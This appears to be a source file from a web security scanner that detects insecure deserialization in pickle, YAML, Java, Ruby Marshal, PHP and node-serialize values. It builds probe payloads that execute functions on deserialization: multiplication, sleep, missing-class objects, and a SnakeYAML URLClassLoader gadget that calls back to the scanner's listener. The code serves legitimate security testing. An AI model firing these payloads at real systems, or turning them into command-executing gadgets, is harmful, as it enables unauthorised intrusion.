import type { InjectionPoint } from '../crawl/point.ts';
import type { Evidence } from '../evidence.ts';
import { askingScript } from './action-values.ts';
import type { Product } from './output.ts';
import { randomBetween } from './trial.ts';

/**
 * Ways in which programs write objects down. What is tried calculates, waits, names a class that is nowhere or asks our own
 * listener: nothing of the application is called.
 */
export type Language = 'pickle' | 'yaml' | 'java' | 'marshal' | 'node' | 'php';

/** A text that is read before it is given to the reader of objects. */
export interface Coating {
  wrap(text: string): string;
  unwrap(value: string): string;
}

const coated = (encoding: 'base64' | 'hex'): Coating => ({
  wrap: (text) => Buffer.from(text, 'latin1').toString(encoding),
  unwrap: (value) => Buffer.from(value, encoding).toString('latin1'),
});
const BARE: Coating = { wrap: (text) => text, unwrap: (value) => value };
const BASE64 = coated('base64');
const HEX = coated('hex');

/** The payload as a property of a JSON document, for values that are parsed as a whole. */
const IN_DOCUMENT: Coating = {
  wrap: (text) => JSON.stringify({ q: text }),
  unwrap: (value) => String((JSON.parse(value) as { q?: unknown }).q),
};
/** The document as it is, and encoded as cookies often hold it. */
const DOCUMENTS: readonly Coating[] = [
  IN_DOCUMENT,
  {
    wrap: (text) => BASE64.wrap(IN_DOCUMENT.wrap(text)),
    unwrap: (value) => IN_DOCUMENT.unwrap(BASE64.unwrap(value)),
  },
];

/** How the value is coated; null: it is written as it is. */
function coatingOf(value: string): Coating | null {
  if (/^(?:[0-9a-f]{2}){4,}$/i.test(value)) return HEX;
  return /^[A-Za-z0-9+/]{8,}={0,2}$/.test(value) && value.length % 4 === 0 ? BASE64 : null;
}

/** The first bytes, and for want of others the first signs. */
const JAVA = /^aced0005/;
const MARSHAL = /^0408(?:5b|7b|6f|69|49|55|22|40|3a|2f)/;
const BINARY_PICKLE = /^800[1-5].*2e$/;
const PICKLE = /^(?:\(?[dl]p\d|\([dil]|c[\w.]{1,60}\n\w{1,60}\n).*\.$/s;
/** A mapping, or a document that says so. A sentence with a colon is one as well. */
const YAML = /^(?:---(?:\s|$)|%YAML|[A-Za-z_][\w-]{0,40}:(?:[ \t]+\S|[ \t]*\n[ \t]+\S))/;

/** What the value of a point is written in, by its first signs. */
export function languageOf({ value, codec }: Pick<InjectionPoint, 'value' | 'codec'>): Language | null {
  const text = (coatingOf(value) ?? BARE).unwrap(value.slice(0, 20_000));
  const bytes = Buffer.from(text, 'latin1').toString('hex');
  if (JAVA.test(bytes)) return 'java';
  if (MARSHAL.test(bytes)) return 'marshal';
  if (BINARY_PICKLE.test(bytes) || PICKLE.test(text)) return 'pickle';
  if (YAML.test(value)) return 'yaml';
  // A document in a cookie or a hidden field, whose texts may be functions to who reads it.
  return codec?.layers.some((layer) => typeof layer === 'object' && 'key' in layer && !layer.xml) ? 'node' : null;
}

const NAMED: ReadonlyArray<readonly [Language, RegExp]> = [
  ['pickle', /pickle/i],
  ['yaml', /yaml|(?:^|[^a-z])yml/i],
  ['marshal', /marshal/i],
  ['pickle', /(?:^|[^a-z])(?:obj|object|oggetto|objekt|objet|objeto|dump|blob)(?:$|[^a-z])|seriali[sz]|serializ/i],
];
const SAID: ReadonlyArray<readonly [Language, RegExp]> = [
  ['pickle', /unpickl|pickle|invalid load key|fromhex\(\)/i],
  ['yaml', /\byaml\b|snakeyaml|Psych::|mapping values are not allowed/i],
  ['java', /StreamCorruptedException|java\.io\.(?:InvalidClass|OptionalData)Exception|invalid stream header/],
  ['marshal', /incompatible marshal file|marshal data too short/i],
  // Errors of Node.js for a word where it expects JSON or a serialised object.
  ['node', /Unexpected token .{1,60}(?:is not valid JSON|in JSON at position)|node-serialize/i],
];

/** What the name of a point, or the answer to a word without meaning, says that it is read as. */
export const languageByName = (name: string): Language | null =>
  NAMED.find(([, words]) => words.test(name))?.[0] ?? null;
export const languageSaid = (text: string): Language | null => SAID.find(([, words]) => words.test(text))?.[0] ?? null;

/** What a page shows of objects as PHP writes them, for instance to say how one is written. */
export const showsPhpObject = (text: string) =>
  /(?<![\w"])(?:O:\d{1,4}:(?:"|&quot;|&#34;)[\w\\]{1,200}(?:"|&quot;|&#34;):\d|a:\d{1,4}:\{[is]:\d)/.test(text);

/** Encodings to try when an error names the language and the usual value is not serialised in it. */
export const coatingsOf = (language: Language): readonly Coating[] =>
  language === 'node' ? DOCUMENTS : coatingsFor('', false);

/** The coatings that come into question: that of the usual value, or all. */
export const coatingsFor = (value: string, isKnown: boolean): readonly Coating[] =>
  isKnown ? [coatingOf(value) ?? BARE] : [BARE, BASE64, HEX];

interface Calculation {
  readonly context: Evidence;
  spell(product: Product): string;
  misspell(spelled: string): string;
  /** It shows the product alone. */
  readonly bare?: true;
}

const misspelled = (word: string) => (spelled: string) => spelled.replace(word, [...word].reverse().join(''));

/** The mapping with another text behind its first key; what is no mapping is replaced. */
const inMapping = (own: string, content: string) => {
  const [, key] = /^(?:---\s*)?([A-Za-z_][\w-]{0,40}):/.exec(own) ?? [];
  const rest = own.slice(own.indexOf('\n') + 1 || own.length);
  return key === undefined ? content : `${key}: ${content}${rest === '' ? '' : `\n${rest}`}`;
};

/** Texts that are a product once they are read. */
export function calculationsIn(language: Language, own: string): readonly Calculation[] {
  switch (language) {
    case 'pickle':
      return [
        {
          context: 'pickle (Python)',
          spell: ({ a, b }) => `coperator\nmul\n(I${a}\nI${b}\ntR.`,
          misspell: misspelled('mul'),
          bare: true,
        },
      ];
    case 'yaml':
      return [
        {
          context: 'YAML (Python)',
          spell: ({ a, b }) => inMapping(own, `!!python/object/apply:operator.mul [${a}, ${b}]`),
          misspell: misspelled('mul'),
          bare: true,
        },
        {
          context: 'YAML (JavaScript)',
          spell: ({ a, b, left, right }) =>
            inMapping(
              own,
              `{${['toString', 'toJSON'].map((name) => `${name}: !!js/function "function(){return '${left}'+(${a}*${b})+'${right}'}"`).join(', ')}}`,
            ),
          misspell: (spelled) => spelled.replaceAll('function(', '(noitcnuf'),
        },
      ];
    case 'php':
      return [
        {
          context: 'PHP',
          // A number with an exponent, which who reads it writes without one.
          spell: ({ a, b }) => `O:8:"stdClass":1:{s:1:"q";d:${(a * b).toExponential().replace('e+', 'E')};}`,
          misspell: (spelled) => spelled.replace('O:8:', 'O:9:'),
          bare: true,
        },
      ];
    case 'node':
      return [
        {
          context: { it: 'una funzione in un documento (Node.js)', en: 'a function in a document (Node.js)' },
          spell: ({ a, b, left, right }) => `_$$ND_FUNC$$_function(){return '${left}'+(${a}*${b})+'${right}'}()`,
          misspell: misspelled('ND_FUNC'),
        },
      ];
    default:
      return [];
  }
}

/**
 * Something to be made before the usual value, which stays what it is: what cannot be made fails. A stack of objects holds
 * it and drops it again.
 */
export function failingPickle(own: string, fails: boolean): string {
  const number = randomBetween(11, 98);
  return `coperator\nfloordiv\n(I7\nI${fails ? 0 : number}\ntR0${own}`;
}

const LETTERS = 'abcdefghijklmnopqrstuvwxyz';
const randomLetters = () => Array.from({ length: 5 }, () => LETTERS[randomBetween(0, LETTERS.length - 1)]).join('');

/** A function in a document, which fails at the length of a list below zero; what it gives back is the usual text. */
export function failingNode(own: string, fails: boolean): string {
  const number = randomBetween(31, 68);
  const other = number + (fails ? 1 : -1) * randomBetween(1, 20);
  return `_$$ND_FUNC$$_function(){return new Array(${number}-${other})&&${JSON.stringify(own)}}()`;
}

/** The same, which asks our listener. */
export const askingNode = (url: string): string => `_$$ND_FUNC$$_function(){${askingScript(url, "'")}}()`;

/**
 * One element more, which nothing reads: an object of the class that every object of Ruby has, or of one that is nowhere.
 * Null: what is written is neither a mapping nor a list.
 */
export function failingRuby(language: Language, own: string, fails: boolean): string | null {
  const name = fails ? `O${randomLetters()}` : 'Object';
  const key = `rq${randomLetters()}`;
  if (language === 'yaml' && /^(?:---\s*\n)?[A-Za-z_][\w-]{0,40}:/.test(own))
    return `${own.trimEnd()}\n${key}: !ruby/object:${name} {}\n`;
  const [, kind, count = 0] = language === 'marshal' ? [own, own[2], own.charCodeAt(3)] : [];
  if ((kind !== '{' && kind !== '[') || count > MOST_COUNTED || (count > 0 && count < 6)) return null;
  const text = (content: string) => String.fromCharCode(content.length + 5) + content;
  const element = `${kind === '{' ? `"${text(key)}` : ''}o:${text(name)}\0`;
  return `${own.slice(0, 3)}${String.fromCharCode(count === 0 ? 6 : count + 1)}${own.slice(4)}${element}`;
}

/** Of what Marshal writes in one byte. */
const MOST_COUNTED = 126;

/** Texts that wait once they are read. */
export function waitsIn(language: Language, own: string): ReadonlyArray<(seconds: number) => string> {
  if (language === 'pickle') return [(seconds) => `ctime\nsleep\n(I${seconds}\ntR.`];
  if (language === 'yaml') return [(seconds) => inMapping(own, `!!python/object/apply:time.sleep [${seconds}]`)];
  return [];
}

interface Named {
  readonly context: Evidence;
  /** An object whose class, or content, has this name. */
  spell(name: string): string;
  /** What the answer says that only who made an object of it can say. */
  said(name: string): RegExp;
}

/** Objects that show by a word of their own that somebody made them, or looked for their class. */
export function namedIn(language: Language, own: string): readonly Named[] {
  switch (language) {
    case 'yaml':
      return [
        {
          context: 'YAML (Ruby)',
          spell: (name) => inMapping(own, `!ruby/regexp /${name}/`),
          // As it is written, and as lists and mappings show it.
          said: (name) => new RegExp(`\\(\\?-mix:${name}\\)|(?:=>|=&gt;|\\[)\\s?/${name}/`),
        },
      ];
    case 'java':
      return [
        {
          context: 'Java',
          spell: (name) => `\xac\xed\0\x05sr\0${String.fromCharCode(name.length)}${name}\0\0\0\0\0\0\0\x01\x02\0\0xp`,
          said: (name) => new RegExp(`ClassNotFoundException[^<\\n]{0,40}${name}`),
        },
      ];
    case 'marshal':
      return [
        {
          context: 'Marshal (Ruby)',
          spell: (name) => `\x04\x08o:${String.fromCharCode(name.length + 5)}${name}\0`,
          said: (name) => new RegExp(`undefined class/module ${name}`),
        },
      ];
    default:
      return [];
  }
}

/** Reads what our listener offers, which is nothing: a list of no classes. */
export const askingYaml = (own: string, url: string) =>
  inMapping(own, `!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["${url}/"]]]]`);
